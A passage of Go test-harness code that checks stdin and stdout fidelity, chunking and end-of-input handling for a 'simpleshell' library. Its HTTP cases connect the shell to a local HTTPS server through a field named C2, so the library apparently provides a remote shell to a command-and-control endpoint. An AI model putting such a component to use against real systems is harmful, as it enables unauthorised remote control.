	synced     int // chunks handed over when the child had seen everything before them
	syncMissed int // ... when the wait expired (or was not tried any more)
	gaveUp     bool
	syncOK     []bool // per chunk: handed over when the child had seen everything before it
	verified   int    // scripted reader: reads that returned a chunk from its first byte
	ended      bool   // the input has reported its end
	heldBack   bool   // the end was held back and the child was still waiting for input then
	earlyEOF   bool   // the child had reported end of input before the reader ended
	earlyAt    int
	writeErr   error
}

// before is called before chunk k is handed over.
func (f *inFeed) before(k int) bool {
	ch := &f.c.Chunks[k]
	if f.c.Sync && k > 0 {
		f.mu.Lock()
		sent, gaveUp := f.sent, f.gaveUp
		f.mu.Unlock()
		// After one wait that expired the child is behind for good (or bytes
		// are missing, which the comparison will tell): no more waiting.
		ok := !gaveUp && inWaitSeen(f.dir, sent, inSyncWait, f.stop)
		f.mu.Lock()
		if ok {
			f.synced++
			f.syncOK[k] = true
		} else {
			f.syncMissed++
			f.gaveUp = true
		}
		f.mu.Unlock()
	}
	return nap(time.Duration(ch.DelayUs)*time.Microsecond, f.stop)
}

func (f *inFeed) after(k int) {
	f.mu.Lock()
	f.sent += len(f.c.Chunks[k].B)
	f.chunksDone++
	f.mu.Unlock()
}

// beforeEnd is called when every byte has been handed over and the reader is
// about to end.  With a hold the child gets time to act on an end of input that
// came too early; it must not have seen one.
func (f *inFeed) beforeEnd() {
	if f.c.EOFHoldMs > 0 && f.c.Flavor == "perl-log" {
		saw := inWaitSeen(f.dir, len(f.c.data), 2*time.Second, f.stop)
		if nap(time.Duration(f.c.EOFHoldMs)*time.Millisecond, f.stop) {
			rp := readInReport(f.dir)
			f.mu.Lock()
			if rp != nil && rp.Kind == "eof" {
				f.earlyEOF, f.earlyAt = true, rp.In
			} else if saw && rp == nil {
				f.heldBack = true
			}
			f.mu.Unlock()
		}
	}
	f.mu.Lock()
	f.ended = true
	f.mu.Unlock()
}

// write drives a writer: one Write per chunk.
func (f *inFeed) write(w io.Writer, closeW func()) {
	defer closeW()
	for k := range f.c.Chunks {
		if !f.before(k) {
			return
		}
		ch := &f.c.Chunks[k]
		if len(ch.B) > 0 || f.c.Kind.Zero {
			if _, err := w.Write(ch.B); err != nil {
				f.mu.Lock()
				f.writeErr = err
				f.mu.Unlock()
				return
			}
		}
		f.after(k)
	}
	f.beforeEnd()
}

// inScripted is a reader whose every Read returns (at most) one chunk.
type inScripted struct {
	f      *inFeed
	k, off int
	began  bool
}

func (s *inScripted) Read(p []byte) (int, error) {
	if len(p) == 0 {
		return 0, nil
	}
	c := s.f.c
	for {
		select {
		case <-s.f.stop:
			return 0, io.EOF
		default:
		}
		if s.k >= len(c.Chunks) {
			if !s.f.isEnded() {
				s.f.beforeEnd()
			}
			return 0, io.EOF
		}
		ch := &c.Chunks[s.k]
		if !s.began {
			if !s.f.before(s.k) {
				return 0, io.EOF
			}
			s.began = true
			if ch.Zero {
				s.f.after(s.k)
				s.k, s.off, s.began = s.k+1, 0, false
				return 0, nil
			}
		}
		n := copy(p, ch.B[s.off:])
		if s.off == 0 && n == len(ch.B) {
			s.f.mu.Lock()
			s.f.verified++
			s.f.mu.Unlock()
		}
		s.off += n
		if s.off == len(ch.B) {
			s.f.after(s.k)
			s.k, s.off, s.began = s.k+1, 0, false
			if s.k == len(c.Chunks) && c.EOFWithLast {
				s.f.beforeEnd()
				return n, io.EOF
			}
		}
		return n, nil
	}
}

func (f *inFeed) isEnded() bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.ended
}

// ---- one case (CmdShell used directly) ---------------------------------------------

type inResult struct {
	got        []byte
	termErr    error
	terminated bool
	goErr      error
	goReturned bool
	goHung     bool
	timedOut   bool
	seen       []byte
	haveSeen   bool
	rep        *inReport
	procKnown  bool
	procExit   int
	procState  string
	setupErr   string
	wall       time.Duration
	// HTTP kinds
	proto      string
	handlerRan bool
	bodyEnded  bool
	// copied from the feed
	sent, chunksDone, synced, syncMissed, verified int
	ended, heldBack, earlyEOF                      bool
	earlyAt                                        int
	writeErr                                       error
	syncOK                                         []bool
}

func (res *inResult) takeFeed(f *inFeed) {
	f.mu.Lock()
	defer f.mu.Unlock()
	res.sent, res.chunksDone, res.synced, res.syncMissed, res.verified = f.sent, f.chunksDone, f.synced, f.syncMissed, f.verified
	res.ended, res.heldBack, res.earlyEOF, res.earlyAt, res.writeErr = f.ended, f.heldBack, f.earlyEOF, f.earlyAt, f.writeErr
	res.syncOK = append([]bool{}, f.syncOK...)
}

func inUnixPair() (a, b net.Conn, err error) {
	fds, err := syscall.Socketpair(syscall.AF_UNIX, syscall.SOCK_STREAM|syscall.SOCK_CLOEXEC, 0)
	if err != nil {
		return nil, nil, err
	}
	fa, fb := os.NewFile(uintptr(fds[0]), "in-a"), os.NewFile(uintptr(fds[1]), "in-b")
	defer fa.Close()
	defer fb.Close()
	if a, err = net.FileConn(fa); err != nil {
		return nil, nil, err
	}
	if b, err = net.FileConn(fb); err != nil {
		a.Close()
		return nil, nil, err
	}
	return a, b, nil
}

func inCommand(ctx context.Context, c *inSpec, dir string, need int) (*exec.Cmd, error) {
	prog, args, text := c.inScript(dir, need)
	if text != "" {
		if err := os.WriteFile(filepath.Join(dir, "child"), []byte(text), 0o644); err != nil {
			return nil, err
		}
	}
	cmd := exec.CommandContext(ctx, prog, args...)
	cmd.Dir = dir
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	return cmd, nil
}

func (res *inResult) collect(cmd *exec.Cmd, dir string) {
	if res.goReturned && cmd.ProcessState != nil {
		res.procKnown = true
		res.procExit = cmd.ProcessState.ExitCode()
		res.procState = cmd.ProcessState.String()
	}
	res.rep = readInReport(dir)
	if b, err := os.ReadFile(filepath.Join(dir, "stdin.seen")); err == nil {
		res.seen, res.haveSeen = b, true
	}
}

func runIn(c *inSpec, dir string, bound time.Duration) (res *inResult) {
	res = &inResult{}
	t0 := time.Now()
	defer func() { res.wall = time.Since(t0) }()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		res.setupErr = err.Error()
		return
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	cmd, err := inCommand(ctx, c, dir, -1)
	if err != nil {
		res.setupErr = err.Error()
		return
	}
	sh, err := simpleshell.NewCmdShell(cmd)
	if err != nil {
		res.setupErr = "NewCmdShell: " + err.Error()
		return
	}
	stop := make(chan struct{})
	var stopOnce sync.Once
	closeStop := func() { stopOnce.Do(func() { close(stop) }) }
	defer closeStop()
	f := &inFeed{c: c, dir: dir, stop: stop, syncOK: make([]bool, len(c.Chunks))}
	var closers []func()
	defer func() {
		for _, cl := range closers {
			cl()
		}
	}()
	feedDone := make(chan struct{})
	feeding := false
	feed := func(w io.Writer, closeW func()) {
		feeding = true
		go func() { defer close(feedDone); f.write(w, closeW) }()
	}

	switch c.Kind.Name {
	case "scripted-reader":
		sh.SetInput(&inScripted{f: f})
	case "bufio-reader":
		sh.SetInput(bufio.NewReaderSize(&inScripted{f: f}, 4096))
	case "bytes-reader":
		sh.SetInput(bytes.NewReader(c.data))
	case "multi-reader":
		var rs []io.Reader
		for _, ch := range c.Chunks {
			rs = append(rs, bytes.NewReader(ch.B))
		}
		sh.SetInput(io.MultiReader(rs...))
	case "regular-file":
		p := filepath.Join(dir, "input.dat")
		if err := os.WriteFile(p, c.data, 0o644); err != nil {
			res.setupErr = err.Error()
			return
		}
		fl, err := os.Open(p)
		if err != nil {
			res.setupErr = err.Error()
			return
		}
		closers = append(closers, func() { fl.Close() })
		sh.SetInput(fl)
	case "io-pipe":
		pr, pw := io.Pipe()
		closers = append(closers, func() { pw.Close(); pr.Close() })
		sh.SetInput(pr)
		feed(pw, func() { pw.Close() })
	case "net-pipe":
		a, b := net.Pipe()
		closers = append(closers, func() { a.Close(); b.Close() })
		sh.SetInput(a)
		feed(b, func() { b.Close() })
	case "unix-socket":
		a, b, err := inUnixPair()
		if err != nil {
			res.setupErr = "socketpair: " + err.Error()
			return
		}
		closers = append(closers, func() { a.Close(); b.Close() })
		sh.SetInput(a)
		feed(b, func() { b.Close() })
	case "os-pipe-file":
		pr, pw, err := os.Pipe()
		if err != nil {
			res.setupErr = err.Error()
			return
		}
		closers = append(closers, func() { pw.Close(); pr.Close() })
		sh.SetInput(pr)
		feed(pw, func() { pw.Close() })
	default:
		res.setupErr = "unknown kind " + c.Kind.Name
		return
	}

	out := sh.Output()
	goCh := make(chan error, 1)
	go func() { goCh <- sh.Go(context.Background()) }()
	type cons struct {
		got []byte
		err error
	}
	consCh := make(chan cons, 1)
	go func() {
		var co cons
		buf := make([]byte, c.ConsChunk)
		for {
			n, err := out.Read(buf)
			co.got = append(co.got, buf[:n]...)
			if err != nil {
				co.err = err
				break
			}
		}
		consCh <- co
	}()

	timer := time.NewTimer(bound)
	defer timer.Stop()
	consDone := false
	select {
	case co := <-consCh:
		consDone = true
		res.got, res.termErr, res.terminated = co.got, co.err, true
	case <-timer.C:
		res.timedOut = true
	}
	if consDone {
		select {
		case res.goErr = <-goCh:
			res.goReturned = true
		case <-timer.C:
			res.goHung = true
		}
	}
	res.takeFeed(f) // what had been handed over when the stream ended (or the bound expired)
	if !c.Kind.Hooks && consDone && res.goReturned {
		// a reader of the library's own (or a file): it has been read to its end
		// when the cat-like child has ended and exec's copy has returned
		res.chunksDone, res.sent, res.ended = len(c.Chunks), len(c.data), true
	}
	if !consDone || res.goHung {
		closeStop()
		cancel()
		for _, cl := range closers {
			cl()
		}
		if !res.goReturned {
			select {
			case res.goErr = <-goCh:
				res.goReturned = true
			case <-time.After(5 * time.Second):
			}
		}
		if !consDone {
			out.Close()
			select {
			case co := <-consCh:
				res.got, res.termErr = co.got, co.err
			case <-time.After(5 * time.Second):
			}
		}
	}
	closeStop()
	if feeding {
		for _, cl := range closers {
			cl()
		}
		select {
		case <-feedDone:
		case <-time.After(5 * time.Second):
		}
	}
	res.collect(cmd, dir)
	cancel()
	return
}

// ---- the HTTP kinds (simpleshell.Go) -----------------------------------------------

type inHTTPCase struct {
	f           *inFeed
	res         *inResult
	mu          sync.Mutex
	handlerDone chan struct{}
	called      bool
}

type inHTTP struct {
	proto string
	tl    *e2eTLS
	ln    net.Listener
	srv   *http.Server
	done  chan struct{}
	mu    sync.Mutex
	cases map[string]*inHTTPCase
}

func startInHTTP(tl *e2eTLS, proto string) (*inHTTP, error) {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	h := &inHTTP{proto: proto, tl: tl, ln: ln, done: make(chan struct{}), cases: map[string]*inHTTPCase{}}
	mux := http.NewServeMux()
	mux.HandleFunc(simpleshell.IOPath, h.handle)
	h.srv = &http.Server{
		Handler:   mux,
		TLSConfig: &tls.Config{Certificates: []tls.Certificate{tl.cert}, MinVersion: tls.VersionTLS12},
		ErrorLog:  log.New(io.Discard, "", 0),
	}
	if proto == "h1" {
		h.srv.TLSNextProto = map[string]func(*http.Server, *tls.Conn, http.Handler){}
	}
	go func() { defer close(h.done); h.srv.ServeTLS(ln, "", "") }()
	return h, nil
}

func (h *inHTTP) close() {
	h.srv.Close()
	<-h.done
}

func (h *inHTTP) handle(w http.ResponseWriter, r *http.Request) {
	h.mu.Lock()
	cs := h.cases[r.URL.Query().Get("c")]
	h.mu.Unlock()
	if cs == nil {
		http.Error(w, "no such case", http.StatusNotFound)
		return
	}
	cs.mu.Lock()
	if cs.called {
		cs.mu.Unlock()
		http.Error(w, "one shell only", http.StatusServiceUnavailable)
		return
	}
	cs.called = true
	cs.res.handlerRan, cs.res.proto = true, r.Proto
	cs.mu.Unlock()
	defer close(cs.handlerDone)
	rc := http.NewResponseController(w)
	rc.EnableFullDuplex()
	w.WriteHeader(http.StatusOK)
	rc.Flush()
	f := cs.f
	sendDone := make(chan struct{})
	go func() {
		defer close(sendDone)
		for k := range f.c.Chunks {
			if !f.before(k) {
				return
			}
			rc.SetWriteDeadline(time.Now().Add(20 * time.Second))
			_, err := w.Write(f.c.Chunks[k].B)
			if err == nil {
				err = rc.Flush()
			}
			if err != nil {
				f.mu.Lock()
				f.writeErr = err
				f.mu.Unlock()
				return
			}
			f.after(k)
		}
	}()
	var got []byte
	buf := make([]byte, 4096)
	for {
		n, err := r.Body.Read(buf)
		got = append(got, buf[:n]...)
		if err != nil {
			cs.mu.Lock()
			cs.res.got, cs.res.termErr = got, err
			select {
			case <-f.stop:
			default:
				cs.res.bodyEnded = true
			}
			cs.mu.Unlock()
			break
		}
	}
	<-sendDone
}

func runInHTTP(c *inSpec, h *inHTTP, dir, tag string, bound time.Duration) (res *inResult) {
	res = &inResult{}
	t0 := time.Now()
	defer func() { res.wall = time.Since(t0) }()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		res.setupErr = err.Error()
		return
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	cmd, err := inCommand(ctx, c, dir, len(c.data))
	if err != nil {
		res.setupErr = err.Error()
		return
	}
	sh, err := simpleshell.NewCmdShell(cmd)
	if err != nil {
		res.setupErr = "NewCmdShell: " + err.Error()
		return
	}
	stop := make(chan struct{})
	var stopOnce sync.Once
	closeStop := func() { stopOnce.Do(func() { close(stop) }) }
	defer closeStop()
	f := &inFeed{c: c, dir: dir, stop: stop, syncOK: make([]bool, len(c.Chunks))}
	cs := &inHTTPCase{f: f, res: res, handlerDone: make(chan struct{})}
	h.mu.Lock()
	h.cases[tag] = cs
	h.mu.Unlock()
	defer func() {
		h.mu.Lock()
		delete(h.cases, tag)
		h.mu.Unlock()
	}()
	fp := h.tl.pin
	if c.Q%2 == 0 {
		fp = "sha256//" + fp
	}
	conf := simpleshell.ConnConfig{C2: "https://" + h.ln.Addr().String() + simpleshell.IOPath + "?c=" + tag, Fingerprint: fp}
	goCh := make(chan error, 1)
	go func() { goCh <- simpleshell.Go(context.Background(), conf, sh) }()

	timer := time.NewTimer(bound)
	defer timer.Stop()
	called := func() bool { cs.mu.Lock(); defer cs.mu.Unlock(); return cs.called }
	hd := false
	var goErr error
	goReturned := false
	for !hd && !res.timedOut {
		select {
		case <-cs.handlerDone:
			hd = true
		case goErr = <-goCh:
			goReturned = true
			goCh = nil
			if !called() {
				select {
				case <-cs.handlerDone:
					hd = true
				case <-time.After(2 * time.Second):
					cs.mu.Lock()
					res.goErr, res.goReturned = goErr, true
					res.setupErr = fmt.Sprintf("Go returned (%s) and no request reached the server", errStr(goErr))
					cs.mu.Unlock()
					return
				}
			}
		case <-timer.C:
			cs.mu.Lock()
			res.timedOut = true
			cs.mu.Unlock()
		}
	}
	goHung := false
	if hd && !goReturned {
		select {
		case goErr = <-goCh:
			goReturned = true
		case <-timer.C:
			goHung = true
		}
	}
	if res.timedOut || goHung {
		closeStop()
		cancel()
		if !goReturned {
			select {
			case goErr = <-goCh:
				goReturned = true
			case <-time.After(5 * time.Second):
			}
		}
		if !hd {
			select {
			case <-cs.handlerDone:
			case <-time.After(5 * time.Second):
			}
		}
	}
	cs.mu.Lock()
	defer cs.mu.Unlock()
	res.goErr, res.goReturned, res.goHung = goErr, goReturned, goHung
	res.terminated = res.bodyEnded
	res.takeFeed(f)
	res.collect(cmd, dir)
	cancel()
	return
}

// ---- oracle -----------------------------------------------------------------------

func inHex(b []byte, at int) string {
	lo, hi := max(0, at-8), min(len(b), at+16)
	if lo >= hi {
		return "(nothing)"
	}
	return fmt.Sprintf("% x (from offset %d)", b[lo:hi], lo)
}

// where describes offset off of the input in terms of the chunks handed over.
func (c *inSpec) where(off int) string {
	k, w := c.locate(off)
	if k >= len(c.Chunks) {
		return "past the end of the input"
	}
	ch := c.Chunks[k]
	s := fmt.Sprintf("byte %d of chunk %d (%d bytes", w, k, len(ch.B))
	if ch.Head >= 0 {
		s += ", begins with " + inMagics[ch.Head].Name
	}
	if ch.Tail >= 0 {
		s += ", ends with " + inMagics[ch.Tail].Name
	}
	if ch.Note != "" {
		s += ", " + ch.Note
	}
	return s + ")"
}

func judgeIn(c *inSpec, res *inResult) (v verdict) {
	add := func(key, f string, a ...any) {
		v.viol = append(v.viol, finding{key + ":input", fmt.Sprintf(f, a...)})
	}
	tag := fmt.Sprintf("input case %d", c.Index)
	if res.setupErr != "" {
		v.inconcl = append(v.inconcl, fmt.Sprintf("%s: setup failed: %s", tag, res.setupErr))
		return
	}
	if c.Kind.HTTP && !res.handlerRan {
		v.inconcl = append(v.inconcl, fmt.Sprintf("%s: no request reached the server (Go: %s)", tag, errStr(res.goErr)))
		return
	}
	if res.procKnown && res.procExit == 96 {
		v.inconcl = append(v.inconcl, fmt.Sprintf("%s: the child could not keep its log", tag))
		return
	}
	// what the child may have seen: the data, for the HTTP kinds followed by padding
	want := c.data
	if c.Kind.HTTP {
		want = append(append([]byte{}, c.data...), bytes.Repeat([]byte{'P'}, inPadLen)...)
	}
	exact := false
	switch c.Flavor {
	case "perl-log":
		if !res.haveSeen {
			v.inconcl = append(v.inconcl, fmt.Sprintf("%s: the child left no log of its stdin", tag))
			return
		}
		v.gotOut = len(res.got)
		if p := commonPrefix(res.seen, want); p < len(res.seen) {
			if p < len(want) {
				add("stdin-corrupt", "the child's stdin differs from the input stream at offset %d, %s: the child saw %#02x there, sent was %#02x (child saw %d bytes in all, %d were sent); child: %s; sent: %s",
					p, c.where(p), res.seen[p], want[p], len(res.seen), len(c.data), inHex(res.seen, p), inHex(want, p))
			} else {
				add("stdin-corrupt", "the child saw %d bytes on stdin, only %d were sent", len(res.seen), len(want))
			}
		} else if res.rep != nil && res.rep.Kind == "eof" && len(res.seen) < len(c.data) {
			// the child saw the end of its input; everything handed over before must have arrived
			if !c.Kind.HTTP && res.ended && res.writeErr == nil {
				add("stdin-truncated", "the child saw end of input after %d of the %d bytes the reader given to SetInput had returned before it ended; first missing: %s", len(res.seen), len(c.data), c.where(len(res.seen)))
			} else if c.Kind.HTTP && res.bodyEnded && res.writeErr == nil && res.sent >= len(c.data) {
				add("stdin-truncated", "the child saw end of input after %d bytes although the server had written %d bytes to the response body, which was still open; first missing: %s", len(res.seen), res.sent, c.where(len(res.seen)))
			}
		} else if res.rep != nil && (res.rep.Kind == "eof" || res.rep.Kind == "full") && len(res.seen) >= len(c.data) {
			exact = true
		}
		if c.Kind.HTTP {
			if res.bodyEnded && exact && string(res.got) != fmt.Sprintf("done %d\n", len(c.data)) {
				add("output-corrupt", "the request body is %s, the child wrote %q", short(res.got), fmt.Sprintf("done %d\n", len(c.data)))
			}
		} else if p := commonPrefix(res.got, res.seen); p < len(res.got) {
			add("output-corrupt", "Output() differs from what the child wrote (its input, echoed) at offset %d (%d received, child wrote %d)", p, len(res.got), len(res.seen))
		} else if res.terminated && res.rep != nil && res.rep.Kind == "eof" && len(res.got) < res.rep.Out {
			add("stdout-truncated", "Output() ended (%s) after %d of the %d bytes the child had echoed", errStr(res.termErr), len(res.got), res.rep.Out)
			exact = false
		}
	case "bin-cat":
		v.gotOut = len(res.got)
		if res.terminated || !bytes.HasPrefix(c.data, res.got) {
			if p := commonPrefix(res.got, c.data); p < len(res.got) || p < len(c.data) {
				add("echo-differs-from-input", "what /bin/cat sent back on Output() differs from the input stream at offset %d, %s: got %s, sent %s (%d received, %d sent)", p, c.where(p), inHex(res.got, p), inHex(c.data, p), len(res.got), len(c.data))
			} else {
				exact = true
			}
		}
	case "sha256":
		v.gotOut = len(res.got)
		if res.terminated {
			wantLine := fmt.Sprintf("n=%d sha256=%x\n", len(c.data), sha256.Sum256(c.data))
			if string(res.got) != wantLine {
				add("stdin-digest-differs", "the byte counter read %s from its stdin, the input stream was %s", strings.TrimSpace(string(res.got)), strings.TrimSpace(wantLine))
			} else {
				exact = true
			}
		}
	}
	if res.earlyEOF {
		add("stdin-eof-before-end-of-input", "the child had seen the end of its input (after %d bytes) while the reader given to SetInput had not ended yet (it was held open %d ms after the child had logged the last byte)", res.earlyAt, c.EOFHoldMs)
	}
	if res.timedOut {
		v.timeout = true
		return
	}
	if !res.terminated {
		v.inconcl = append(v.inconcl, fmt.Sprintf("%s: the output stream was ended by the harness", tag))
		return
	}
	if !errors.Is(res.termErr, io.EOF) || errors.Is(res.termErr, io.ErrUnexpectedEOF) {
		add("output-ends-with-error", "the output stream ended with %q instead of a clean end although the child ran and ended on its own (exit 0 at the end of its input)", errStr(res.termErr))
	}
	if res.goHung || !res.goReturned {
		v.inconcl = append(v.inconcl, fmt.Sprintf("%s: Go had not returned when the bound expired although the output stream had ended and the input had ended", tag))
	}
	v.complete = exact
	return
}

func witnessIn(c *inSpec, res *inResult) map[string]any {
	var chunks []string
	for k, ch := range c.Chunks {
		s := fmt.Sprintf("%d: %d bytes", k, len(ch.B))
		if ch.Head >= 0 {
			s += ", begins with " + inMagics[ch.Head].Name
		}
		if ch.Alone {
			s += " and nothing else"
		}
		if ch.Tail >= 0 {
			s += ", ends with " + inMagics[ch.Tail].Name
		}
		if ch.Note != "" {
			s += ", " + ch.Note
		}
		if len(ch.B) > 0 {
			s += fmt.Sprintf(": % x", ch.B[:min(len(ch.B), 12)])
			if len(ch.B) > 12 {
				s += " …"
			}
		}
		if ch.DelayUs > 0 {
			s += fmt.Sprintf(" (after %d µs)", ch.DelayUs)
		}
		chunks = append(chunks, s)
	}
	_, _, text := c.inScript("<dir>", map[bool]int{true: len(c.data), false: -1}[c.Kind.HTTP])
	w := map[string]any{
		"reader_given_to_SetInput": c.Kind.Name, "child": c.Flavor, "child_script": text, "child_read_size": c.ChildRead,
		"input_bytes": len(c.data), "chunks": chunks,
		"each_chunk_waits_until_child_saw_all_before": c.Sync, "end_of_input_held_back_ms": c.EOFHoldMs, "eof_with_last_bytes": c.EOFWithLast,
		"chunks_handed_over": res.chunksDone, "bytes_handed_over": res.sent, "reader_ended": res.ended,
		"chunks_handed_over_after_child_had_seen_all_before": res.synced, "hand_over_waits_expired": res.syncMissed,
		"input_write_error":         errStr(res.writeErr),
		"stdin_bytes_seen_by_child": len(res.seen), "child_report": fmt.Sprintf("%+v", res.rep),
		"output_bytes_received": len(res.got), "output_terminal_condition": errStr(res.termErr), "output_ended_by_itself": res.terminated,
		"go_returned": res.goReturned, "go_error": errStr(res.goErr), "wait_status": res.procState, "wall_ms": res.wall.Milliseconds(),
		"consumer_read_size": c.ConsChunk,
	}
	if c.Kind.HTTP {
		w["request_proto"] = res.proto
	}
	return w
}

// ---- driver -----------------------------------------------------------------------

func runInputEngine(r *mon.Run) {
	if !r.WantEngine(inEngine) {
		return
	}
	rounds := r.N(1, 6)
	n := rounds * len(inRound)
	tl, err := newE2ETLS()
	if err != nil {
		r.Inconclusive("input: cannot make a certificate: " + err.Error())
		return
	}
	servers := map[string]*inHTTP{}
	for _, p := range []string{"h1", "h2"} {
		h, err := startInHTTP(tl, p)
		if err != nil {
			r.Inconclusive("input: cannot start the HTTPS server: " + err.Error())
			return
		}
		defer h.close()
		servers[p] = h
	}
	var mu sync.Mutex
	var timeouts []int
	sampled := map[string]bool{}
	pairs := map[[2]int]bool{}    // (kind, sequence) where the sequence led a chunk that was handed over on its own
	leading := map[int]bool{}     // sequences that led a chunk
	trailing := map[int]bool{}    // sequences that ended a chunk
	alone := map[int]bool{}       // sequences that were a chunk of their own
	streamStart := map[int]bool{} // sequences at the very start of a stream
	splitsSeen := map[int]bool{}  // split sequences
	planned := map[string]int64{} // cases per kind
	plannedHold, plannedSync := int64(0), int64(0)

	one := func(i int, bound time.Duration, retry bool) (timedOut bool) {
		c := genIn(r, i)
		dir := filepath.Join(r.Work, fmt.Sprintf("i%d", i))
		tag := strconv.Itoa(i)
		if retry {
			dir += "r"
			tag += "r"
		}
		var res *inResult
		if c.Kind.HTTP {
			res = runInHTTP(c, servers[map[bool]string{true: "h1", false: "h2"}[c.Kind.Name == "http1-response-body"]], dir, tag, bound)
		} else {
			res = runIn(c, dir, bound)
		}
		defer os.RemoveAll(dir)
		v := judgeIn(c, res)
		if !retry {
			r.Eval(1)
			r.Distinct(c.sig())
			r.Count("input_cases", 1)
			r.Count("input_reader_"+c.Kind.Name+"_cases", 1)
			r.Count("input_child_"+c.Flavor+"_cases", 1)
			r.Count("input_bytes_sent", int64(len(c.data)))
			if res.haveSeen {
				r.Count("input_bytes_logged_by_child", int64(len(res.seen)))
			}
			if c.Kind.HTTP && res.handlerRan {
				r.Count("input_http_cases_"+strings.ReplaceAll(strings.ToLower(res.proto), "/", ""), 1)
			}
			if v.complete {
				r.Count("input_cases_exact", 1)
			}
			if res.goReturned && res.goErr != nil {
				r.Count("input_go_error_on_clean_exit", 1)
			}
			if res.heldBack {
				r.Count("input_end_held_back_with_child_still_waiting_cases", 1)
			}
			if c.EOFWithLast && res.ended {
				r.Count("input_eof_with_last_bytes_cases", 1)
			}
			r.Count("input_chunks_handed_over_after_child_had_seen_all_before", int64(res.synced))
			r.Count("input_hand_over_waits_expired", int64(res.syncMissed))
			if res.syncMissed > 0 {
				r.Logf("input case %d (%s, %s): %d hand-over waits expired", i, c.Kind.Name, c.Flavor, res.syncMissed)
			}
			r.Count("input_scripted_reads_returning_a_whole_chunk", int64(res.verified))
			// What was exercised: only chunks that were handed over count, and for
			// the kinds whose boundaries depend on the child having caught up only
			// those that were handed over after it had.
			mu.Lock()
			own := func(k int) bool { // chunk k began a Read of its own
				if k >= res.chunksDone {
					return false
				}
				if k == 0 {
					return true
				}
				return c.Kind.Chunked && (!c.Kind.NeedLog || (k < len(res.syncOK) && res.syncOK[k]))
			}
			for k, ch := range c.Chunks {
				if !own(k) || ch.Pad {
					continue
				}
				if ch.Head >= 0 {
					pairs[[2]int{c.KindIdx, ch.Head}] = true
					leading[ch.Head] = true
					if ch.Alone {
						alone[ch.Head] = true
					}
					if k == 0 {
						streamStart[ch.Head] = true
					}
				}
				if c.Kind.Chunked && k+1 < len(c.Chunks) && own(k+1) {
					if ch.Tail >= 0 {
						trailing[ch.Tail] = true
					}
					if ch.SplitA >= 0 {
						splitsSeen[ch.SplitA] = true
					}
				}
			}
			mu.Unlock()
			for k, ch := range c.Chunks {
				if !own(k) || ch.Pad {
					continue
				}
				r.Count("input_chunks_handed_over", 1)
				switch {
				case ch.Zero:
					r.Count("input_zero_length_reads", 1)
				case ch.Note == "a lone NUL":
					r.Count("input_lone_nul_chunks", 1)
				case ch.Note == "a lone CR":
					r.Count("input_lone_cr_then_lone_lf_chunks", 1)
				case ch.Split >= 0 && inSplits[ch.Split].Name == "cr|lf":
					r.Count("input_crlf_split_across_chunks", 1)
				case ch.Head >= 0 && strings.HasPrefix(inMagics[ch.Head].Name, "utf8-bom"):
					r.Count("input_chunks_beginning_with_utf8_bom_or_part_of_it", 1)
				}
				if ch.Head >= 0 {
					r.Count("input_chunks_beginning_with_a_special_sequence", 1)
				}
			}
			if res.wall > 4*time.Second {
				r.Count("input_cases_longer_than_4s", 1)
				r.Logf("input case %d took %s: %s %s", i, res.wall.Round(time.Millisecond), c.Kind.Name, c.Flavor)
			}
		}
		desc := fmt.Sprintf("input case %d (reader %s, child %s, %d bytes in %d chunks)", i, c.Kind.Name, c.Flavor, len(c.data), len(c.Chunks))
		seen := map[string]bool{}
		for _, f := range v.viol {
			if seen[f.key] {
				continue
			}
			seen[f.key] = true
			r.Violate(inEngine, i, f.key, desc+": "+f.what, witnessIn(c, res))
		}
		for _, m := range v.inconcl {
			r.Inconclusive(m)
		}
		if v.timeout {
			if retry {
				what := "the reader given to SetInput had ended"
				if !res.ended && !c.Kind.HTTP {
					what = fmt.Sprintf("the shell had taken %d of the %d input bytes", res.sent, len(c.data))
				} else if c.Kind.HTTP {
					what = fmt.Sprintf("the server had written %d bytes (%d of data and padding the child need not read) to the response body", res.sent, len(c.data))
				}
				r.Violate(inEngine, i, "output-stream-does-not-end:input", fmt.Sprintf("%s: the output stream had not ended %s after the start, also when the case ran alone: %s, the child had logged %d bytes and is still waiting", desc, bound, what, len(res.seen)), witnessIn(c, res))
			}
			return true
		}
		if retry {
			r.Inconclusive(fmt.Sprintf("input case %d: the output stream did not end within 30 s under load but did when run alone", i))
		}
		mu.Lock()
		take := !sampled[c.Kind.Name] && !retry && len(sampled) < 3 && len(c.data) < 4000
		if take {
			sampled[c.Kind.Name] = true
		}
		mu.Unlock()
		if take {
			w := witnessIn(c, res)
			delete(w, "child_script")
			r.Sample("input", w)
		}
		return false
	}

	bound := 30 * time.Second
	if r.Replaying() {
		for i := 0; i < n; i++ {
			if r.Want(inEngine, i) {
				if one(i, bound, false) {
					one(i, 2*bound, true)
				}
			}
		}
		return
	}
	for i := 0; i < n; i++ {
		c := genIn(r, i)
		planned[c.Kind.Name]++
		if c.EOFHoldMs > 0 {
			plannedHold++
		}
		if c.Kind.NeedLog {
			plannedSync += int64(len(c.Chunks) - 1)
		}
	}
	mon.Parallel(n, inWorkers, func(i int) {
		if one(i, bound, false) {
			mu.Lock()
			timeouts = append(timeouts, i)
			mu.Unlock()
		}
	})
	r.Count("input_cases_not_ended_within_bound", int64(len(timeouts)))
	r.Count("input_end_held_back_planned_cases", plannedHold)
	r.Count("input_hand_overs_waiting_for_the_child_planned", plannedSync)
	for k, i := range timeouts {
		if k >= maxRetry {
			r.Inconclusive(fmt.Sprintf("input case %d: the output stream did not end within %s; not re-run alone (only the first %d are)", i, bound, maxRetry))
			continue
		}
		one(i, 2*bound, true)
	}
	m := int64(len(inMagics))
	r.Count("input_reader_and_sequence_pairs_with_the_sequence_leading_a_read", int64(len(pairs)))
	r.Count("input_sequences_leading_a_chunk", int64(len(leading)))
	r.Count("input_sequences_ending_a_chunk", int64(len(trailing)))
	r.Count("input_sequences_alone_in_a_chunk", int64(len(alone)))
	r.Count("input_sequences_at_the_start_of_a_stream", int64(len(streamStart)))
	r.Count("input_sequences_split_across_two_chunks", int64(len(splitsSeen)))
	var names []string
	for _, mg := range inMagics {
